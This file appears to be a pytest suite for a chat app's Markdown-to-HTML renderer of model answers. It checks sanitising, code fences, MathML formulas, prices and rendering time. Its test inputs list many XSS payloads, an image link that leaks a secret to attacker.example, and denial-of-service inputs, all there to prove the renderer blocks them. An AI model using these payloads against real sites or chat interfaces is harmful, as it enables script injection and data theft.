"""Model Markdown becomes HTML that shows all of it and does nothing."""

import re
import subprocess
import sys
import time
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.rendering import answer_html
from tests.core.test_rendering_forms import CARDS, shown

RICH = "`~#-*_1. []()$\\|>!:<&\n\t\"'ah【】†^/="
FENCE_LINES = ["```py", "```", "````", "~~~", "~~~~ js", "x = arr[1]", "$a$ [1]", "  indented", ""]


class Seen(HTMLParser):
    """What a browser would find: elements, their attributes, and the text."""

    def __init__(self, html):
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def code_of(html):
    bodies = re.findall("<pre><code>(.*?)</code></pre>", html, re.DOTALL)
    return [unescape(re.sub("<[^>]*>", "", body)) for body in bodies]


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://attacker.example/p.png?leak=secret)",
        "![x](data:image/svg+xml;base64,AAAA)",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>)",
        "[x](https://evil.example)",
        "<javascript:alert(1)>",
        "<https://evil.example>",
        '[1](https://evil.example "onmouseover=alert(1)")',
        "```py\" onload=\"alert(1)\n<script>\n```",
        "~~~<script>alert(1)</script>\n~~~",
        r"$\text{<script>alert(1)</script>}$",
        r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
        r"$\href{javascript:alert(1)}{x}$",
        "$$\n</math><style><img src=x onerror=alert(1)>\n$$",
        r"\(\unknown{</code><script>alert(1)</script>}\)",
        "[x]: javascript:alert(1)\n\n[x]",
        "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
        "<!-- [1] --><style>*{display:none}</style><iframe src=//evil.example>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "# <svg onload=alert(1)>",
    ],
)  # fmt: skip
def test_nothing_runs_loads_or_leads_away(payload):
    html = answer_html(f"Before {payload}\n\n{payload}\n\n- {payload}", CARDS)
    seen = Seen(html)
    for tag, attributes in seen.elements:
        assert tag not in {"script", "img", "style", "iframe", "svg", "form", "object", "embed"}
        assert not any(name.startswith("on") or name in {"src", "style"} for name in attributes)
        assert attributes.get("href", "#").startswith("#")


def test_a_title_of_a_source_cannot_break_out():
    card = type(CARDS[0])(1, '"><script>alert(1)</script>', "https://x.example", "<b>x</b>.example")
    elements = Seen(answer_html("Ice [1]", [card])).elements
    assert [tag for tag, _ in elements] == ["p", "a", "span", "span"]


@given(st.text(RICH, max_size=80))
def test_whatever_is_written_only_known_elements_come_out(text):
    for tag, attributes in Seen(answer_html(text, CARDS)).elements:
        assert tag not in {"script", "img", "style", "iframe"}
        assert attributes.get("href", "#s").startswith("#s")
        assert attributes.get("data-source", "1") in {"1", "2", "3"}


@given(st.lists(st.sampled_from(FENCE_LINES), max_size=8))
def test_code_in_a_fence_is_byte_identical(lines):
    code = "".join(f"{line}\n" for line in lines)
    html = answer_html(f"`````py\n{code}`````\n\nDone [1].", CARDS)
    assert code_of(html) == [code]
    assert shown(html).endswith("Done {1}.")


@pytest.mark.parametrize("language", ["py", "bash", "c++", "html", "json", "markdown", "no-such"])
def test_colours_change_nothing_in_the_code(language):
    code = '\n\n\tx = \'[1]\' # <b> & "q" \\(x\\)  \n{"a": [1, 2]}\n\n'
    assert code_of(answer_html(f"````{language}\n{code}````")) == [code]


def test_three_fences_in_one_piece_stay_as_they_are():
    text = "```py\na[1]\n```\n\nx\n\n```js\nb[2]\n```\n\n```bash\necho ${c[3]}\n```"
    html = answer_html(text, CARDS)
    assert code_of(html) == ["a[1]\n", "b[2]\n", "echo ${c[3]}\n"]
    assert re.findall('data-language="([^"]*)"', html) == ["py", "js", "bash"]


def test_a_closing_fence_may_be_the_last_thing():
    assert code_of(answer_html("```py\nx = 1\n```")) == ["x = 1\n"]


def test_a_markdown_block_may_hold_fences():
    inner = "# Title\n\n```py\nx = arr[1]\n```\n\n[a](https://evil.example) [1]\n"
    for markup in ("```", "````", "~~~"):
        html = answer_html(f"Here:\n\n{markup}markdown\n{inner}{markup}\n\nDone [1].", CARDS)
        assert code_of(html) == [inner]
        assert shown(html).endswith("Done {1}.")


def test_a_markdown_block_that_is_cut_off_stays_one_block():
    inner = "# Title\n\n```py\nx = 1\n\ny = 2"
    assert code_of(answer_html(f"```md\n{inner}")) == [inner]


def test_a_code_span_may_hold_backticks_and_money():
    html = answer_html("`` `$5` and $6 [1] `` costs $7", CARDS)
    assert shown(html) == "<code>`$5` and $6 [1]</code> costs $7"


@pytest.mark.parametrize(
    "prose",
    [
        "**$1.50** for tea, $155 for the room and $34 for dinner",
        "**$5** and **6$**",
        "from $10 to $20, or $10-$20",
        "US$5 and US$6",
        "I have $5, you have 3$.",
        "$ 5 and $ 6",
        "costs $5",
        "$PATH and $HOME",
        r"\$5 and \$6",
        "between $1,000 and 2,000$ a year",
    ],
)
def test_prices_stay_prose(prose):
    html = answer_html(prose)
    assert "<math" not in html
    assert "<code" not in html
    assert Seen(html).text.strip() == prose.replace("**", "").replace("\\", "")


@pytest.mark.parametrize(
    ("text", "display"),
    [
        (r"$\$0.60$", "inline"),
        ("$x$", "inline"),
        ("$2x + 1$", "inline"),
        ("the $n$th and $k$-means", "inline"),
        (r"\( p^* \)", "inline"),
        ("so $$x^2$$ holds", "block"),
        (r"so \[ x^2 \] holds", "block"),
        ("$$x^2$$", "block"),
        ("$$\nx^2\n$$", "block"),
        ("\\[\nx\n= 1\n\\]", "block"),
        ("so\n\\[\nx = 1\n\\]\nholds", "block"),
        ("- so:\n  $$\n  x^2\n  $$", "block"),
        ("$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$", "block"),
        (r"\[ x = 1 \].", "block"),
    ],
)
def test_formulas_become_mathml(text, display):
    html = answer_html(text)
    assert f'<math display="{display}"' in html
    assert "<code" not in html


def test_a_formula_that_cannot_be_converted_is_shown_as_written():
    assert shown(answer_html(r"so $\frac{a$ is")) == r'so <code class="maths">$\frac{a$</code> is'
    assert r"\nosuchcommand" in Seen(answer_html(r"$\nosuchcommand x^2$")).text
    deep = "${" + "{" * 200 + "x" + "}" * 200 + "}$"
    assert shown(answer_html(deep)) == f'<code class="maths">{deep}</code>'


@pytest.mark.parametrize("text", [r"\[1\]", r"\[note\]", r"\[1, 2\] and \[x\]"])
def test_escaped_brackets_are_no_formula(text):
    assert shown(answer_html(text, CARDS)) == text.replace("\\", "")


def test_display_maths_ends_at_a_blank_line():
    assert "<math" not in answer_html("$$\nx^2\n\ny^2\n$$")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**重要：**氷は浮く", "<strong>重要：</strong>氷は浮く"),
        ("これは**「水」**です", "これは<strong>「水」</strong>です"),
        ("这是**“水”**的", "这是<strong>“水”</strong>的"),
        ("**氷は浮く。**[1]そして", "<strong>氷は浮く。</strong>{1}そして"),
        ("얼음은 **물(水)**에 뜬다", "얼음은 <strong>물(水)</strong>에 뜬다"),
        ("2 * 3 * 4 and a * b", "2 * 3 * 4 and a * b"),
        ("水 * 氷 * 雪", "水 * 氷 * 雪"),
        ("snake_case_水_氷", "snake_case_水_氷"),
    ],
)
def test_emphasis_works_in_scripts_without_spaces(text, expected):
    assert shown(answer_html(text, CARDS)) == expected


def test_rendering_needs_no_framework():
    blocked = "import sys\nfor name in ('django', 'channels'): sys.modules[name] = None\n"
    script = f"{blocked}from chat.rendering import answer_html\nprint(answer_html('*ice*'))"
    root = Path(__file__).parents[2]
    command = [sys.executable, "-c", script]
    run = subprocess.run(command, capture_output=True, text=True, cwd=root)
    assert run.stdout.strip() == "<p><em>ice</em></p>", run.stderr


def test_tables_are_aligned_by_class():
    html = answer_html("|a|b|\n|:-:|--:|\n|1|2|")
    assert '<th class="align-center">a</th>' in html
    assert '<td class="align-right">2</td>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 20_000,
        "[" + "1" * 100_000,
        "[1](" * 5_000,
        "![" * 10_000,
        "$a " * 7_000,
        "\\(" * 10_000,
        "$$a\n" * 5_000,
        "\\[a\n" * 5_000,
        "https://x" + "[1]" * 5_000,
        "https://" * 3_000,
        "[1]: " * 5_000,
        "- " * 200 + "x",
        ">" * 1_000,
        "`" * 10_001 + "a" + "`" * 10_000,
        "*a_" * 7_000,
        "[1" * 10_000 + "]" * 10_000,
        "$" + "{" * 1_900 + "$",
        "word [9] " * 3_000,
        "1. " * 150 + "a\n" * 50,
    ],
    ids=lambda text: text[:8],
)
def test_no_answer_takes_long(hostile):
    began = time.process_time()
    answer_html(hostile, CARDS)
    assert time.process_time() - began < 8


@pytest.mark.parametrize(
    ("text", "html"),
    [("# One", "<h3>One</h3>"), ("## Two [1]", "<h4>Two"), ("###### Six", "<h6>Six</h6>")],
)
def test_headings_begin_below_those_of_the_page(text: str, html: str) -> None:
    assert html in answer_html(text, CARDS)
    assert "<h1" not in answer_html(text, CARDS)
